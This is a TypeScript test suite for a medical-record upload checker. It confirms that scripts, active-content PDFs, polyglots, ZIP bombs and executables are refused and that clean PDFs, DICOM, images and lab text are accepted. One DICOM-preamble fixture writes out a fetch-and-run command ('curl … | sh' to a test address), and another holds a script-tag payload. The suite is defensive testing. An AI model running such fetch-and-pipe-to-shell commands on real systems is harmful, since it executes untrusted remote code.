import fc from 'fast-check';
import type { ByteSource } from '../../../../functions/domain/ports.js';
import { checkRecord } from '../../../../functions/domain/record-checks/check-record.js';
import { CHUNK_BYTES } from '../../../../functions/domain/record-checks/scanner.js';
import { DEFAULT_LIMITS } from '../../../../functions/domain/record-checks/limits.js';
import type { Verdict } from '../../../../functions/domain/record-checks/verdict.js';
import { byteSource } from '../../../support/byte-source.js';
import { FILES } from '../../../support/files.js';
import {
  HOSTILE_PDF,
  HOSTILE_TEXT,
  HOSTILE_ZIP,
  cleanPdf,
  pdfWithJavaScriptInObjectStream,
  tiff,
} from '../../../support/hostile-files.js';

const check = (bytes: Uint8Array | string, limits = DEFAULT_LIMITS) =>
  checkRecord(byteSource(typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes), limits);

const refusal = (verdict: Verdict) => (verdict.accepted ? `accepted as ${verdict.kind}` : verdict.code);

describe('checkRecord: what issue 20 saw accepted is refused', () => {
  it.each([
    ['an .hta application announced as text', HOSTILE_TEXT.hta, 'text-markup'],
    ['a .bat script announced as text', HOSTILE_TEXT.bat, 'text-script'],
    ['a .ps1 script announced as text', HOSTILE_TEXT.ps1, 'text-script'],
    ['a .js (Windows Script Host) script announced as text', HOSTILE_TEXT.js, 'text-script'],
    ['a shell script announced as text', HOSTILE_TEXT.sh, 'text-script'],
    ['HTML with script', HOSTILE_TEXT.html, 'text-markup'],
    ['SVG with script', HOSTILE_TEXT.svg, 'text-markup'],
  ])('%s', async (_, content, code) => {
    expect(refusal(await check(content))).toBe(code);
  });

  it.each([
    ['a PDF with /OpenAction /JavaScript', HOSTILE_PDF.openActionJavaScript(), 'pdf-active-content'],
    [
      'the same hidden in a Flate-compressed object stream',
      HOSTILE_PDF.javaScriptInObjectStream(),
      'pdf-active-content',
    ],
    ['a /J#61vaScript escaped name', HOSTILE_PDF.escapedName(), 'pdf-active-content'],
    ['a %PDF/HTML polyglot', HOSTILE_PDF.htmlPolyglot(), 'pdf-polyglot'],
    ['a PDF with an embedded program', HOSTILE_PDF.embeddedFile(), 'pdf-active-content'],
    ['an encrypted PDF', HOSTILE_PDF.encrypted(), 'pdf-encrypted'],
    ['a ZIP with an executable (MZ) member', HOSTILE_ZIP.withExecutable(), 'executable'],
    ['a ZIP nested in a ZIP', HOSTILE_ZIP.nested(), 'zip-nested-archive'],
    ['a ZIP with an encrypted member', HOSTILE_ZIP.encryptedMember(), 'zip-encrypted'],
    ['a ZIP bomb', HOSTILE_ZIP.bomb(), 'zip-bomb'],
    ['a Windows program', FILES.windowsExe(), 'executable'],
    ['a Linux program', FILES.elf(), 'executable'],
    ['binary junk', FILES.junk(), 'not-allowed-type'],
  ])('%s', async (_, content, code) => {
    expect(refusal(await check(content))).toBe(code);
  });

  it('refuses pdf-lib’s own PDF once a JavaScript /OpenAction is added (compressed object streams)', async () => {
    // Arrange
    const bytes = await pdfWithJavaScriptInObjectStream();
    expect(bytes.toString('latin1')).not.toContain('JavaScript'); // only inflating finds it

    // Act
    const verdict = await check(bytes);

    // Assert
    expect(verdict).toEqual({
      accepted: false,
      code: 'pdf-active-content',
      feature: 'javascript',
      reason:
        "This PDF contains JavaScript, which could run on the reviewer's computer; please upload a copy printed to PDF without it.",
    });
  });

  it('names the ZIP member it refused, made safe to show, and says why in plain words', async () => {
    // Act
    const verdict = await check(HOSTILE_ZIP.withExecutable());

    // Assert
    expect(verdict).toMatchObject({ accepted: false, code: 'executable', member: 'scan-2.jpg' });
    expect(verdict.accepted || verdict.reason).toBe(
      'In this ZIP file, "scan-2.jpg" was not accepted. This file is a program, which could harm the reviewer\'s computer; programs are not accepted.',
    );
  });
});

describe('checkRecord: honest records pass, typed by their content', () => {
  it.each([
    ['a PDF written by pdf-lib', () => cleanPdf(), 'pdf', 'application/pdf', 'pdf'],
    ['a small hand-written PDF', () => FILES.pdf(), 'pdf', 'application/pdf', 'pdf'],
    ['a DICOM file', () => FILES.dicom(), 'dicom', 'application/dicom', 'dcm'],
    ['a JPEG', () => FILES.jpeg(), 'jpeg', 'image/jpeg', 'jpg'],
    ['a PNG', () => FILES.png(), 'png', 'image/png', 'png'],
    ['a TIFF', () => tiff(), 'tiff', 'image/tiff', 'tif'],
    ['UTF-8 lab results', () => FILES.text(), 'text', 'text/plain; charset=utf-8', 'txt'],
    ['a ZIP of two JPEGs and a PDF', () => HOSTILE_ZIP.clean(), 'zip', 'application/zip', 'zip'],
  ])('%s', async (_, build, kind, mime, extension) => {
    expect(await check(await build())).toEqual({ accepted: true, kind, mime, extension });
  });

  it('takes text whose first bytes look like another type\u2019s signature ("BM" is a bitmap\u2019s) as text', async () => {
    expect(await check('BM biopsy: no involvement. BMI 24.3\n')).toMatchObject({
      accepted: true,
      kind: 'text',
    });
  });
});

describe('checkRecord: DICOM\u2019s preamble', () => {
  const dicom = (preamble: Buffer) =>
    Buffer.concat([preamble, Buffer.alloc(128 - preamble.length), Buffer.from('DICM'), Buffer.alloc(64)]);

  it.each([
    ['zeros', Buffer.alloc(0), 'accepted as dicom'],
    ['vendor text', Buffer.from('ACME Imaging 4.2'), 'accepted as dicom'],
    [
      'a TIFF header (a DICOM/TIFF dual-format file: offered as the TIFF it also is)',
      tiff().subarray(0, 8),
      'accepted as tiff',
    ],
    ['a Windows program (a PE/DICOM polyglot)', FILES.windowsExe().subarray(0, 100), 'executable'],
    ['a Linux program', FILES.elf().subarray(0, 64), 'executable'],
    ['a script', Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nexit\n'), 'dicom-preamble'],
    ['a web page', Buffer.from('<html><script>alert(1)</script>'), 'dicom-preamble'],
    [
      'a Windows shortcut (.lnk), which file-type looks for only after DICOM',
      Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]),
      'dicom-preamble',
    ],
  ])('%s', async (_, preamble, expected) => {
    expect(refusal(await check(dicom(preamble)))).toBe(expected);
  });
});

describe('checkRecord: sizes', () => {
  it('refuses an empty file without reading it', async () => {
    // Arrange
    const source = byteSource(new Uint8Array());

    // Act
    const verdict = await checkRecord(source);

    // Assert
    expect(refusal(verdict)).toBe('empty');
    expect(source.reads).toBe(0);
  });

  it('refuses a file over the limit without reading it', async () => {
    // Arrange
    const source = byteSource(FILES.pdf());

    // Act
    const verdict = await checkRecord(source, { ...DEFAULT_LIMITS, maxBytes: FILES.pdf().length - 1 });

    // Assert
    expect(refusal(verdict)).toBe('too-large');
    expect(source.reads).toBe(0);
  });

  it('reads a file of up to a chunk once, and a larger one a chunk at a time', async () => {
    // Arrange
    const small = byteSource(await cleanPdf());
    const large = byteSource(Buffer.from('Lab results\n'.repeat(200_000)));

    // Act
    await checkRecord(small);
    await checkRecord(large);

    // Assert
    expect(small.reads).toBe(1);
    expect(large.reads).toBe(Math.ceil(large.size / CHUNK_BYTES));
  });

  it('accepts a file of exactly the limit', async () => {
    expect((await check(FILES.pdf(), { ...DEFAULT_LIMITS, maxBytes: FILES.pdf().length })).accepted).toBe(
      true,
    );
  });
});

describe('checkRecord: a store that fails', () => {
  const failing = (bytes: Uint8Array, failAfter: number): ByteSource => {
    const inner = byteSource(bytes);
    let reads = 0;
    return {
      size: inner.size,
      read: (offset, length) => {
        reads += 1;
        return reads > failAfter ? Promise.reject(new Error('SlowDown')) : inner.read(offset, length);
      },
    };
  };

  it.each([
    ['a text file, past its first chunk', () => Buffer.from('Lab results\n'.repeat(200_000)), 1],
    ['a PDF', () => cleanPdf(), 0],
    ['a ZIP, past its head', () => HOSTILE_ZIP.clean(), 1],
  ])('throws its error for %s: a fault to retry, never a refusal', async (_, build, failAfter) => {
    // Arrange
    const source = failing(await build(), failAfter);

    // Act / Assert
    await expect(checkRecord(source)).rejects.toThrow('SlowDown');
  });
});

describe('checkRecord: any bytes at all', () => {
  const signatures = [
    '',
    '%PDF-1.7\n',
    'PK\x03\x04',
    'PK\x05\x06',
    '\x89PNG\r\n\x1a\n',
    'II*\x00',
    'BM',
    'MZ',
  ];

  it('answers a verdict and never throws, whatever follows a signature', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...signatures),
        fc.uint8Array({ minLength: 0, maxLength: 3_000 }),
        async (signature, rest) => {
          const verdict = await check(Buffer.concat([Buffer.from(signature, 'latin1'), rest]));
          expect(typeof verdict.accepted).toBe('boolean');
          if (!verdict.accepted) expect(verdict.reason.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('answers a verdict for any damage to a real PDF or ZIP', async () => {
    const originals = [await cleanPdf(), await HOSTILE_ZIP.clean()];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(0, 1),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 20 }),
        fc.option(fc.nat()),
        async (which, changes, cut) => {
          const bytes = Buffer.from(originals[which]!);
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          const verdict = await check(cut === null ? bytes : bytes.subarray(0, 1 + (cut % bytes.length)));
          expect(typeof verdict.accepted).toBe('boolean');
        },
      ),
      { numRuns: 200 },
    );
  });
});
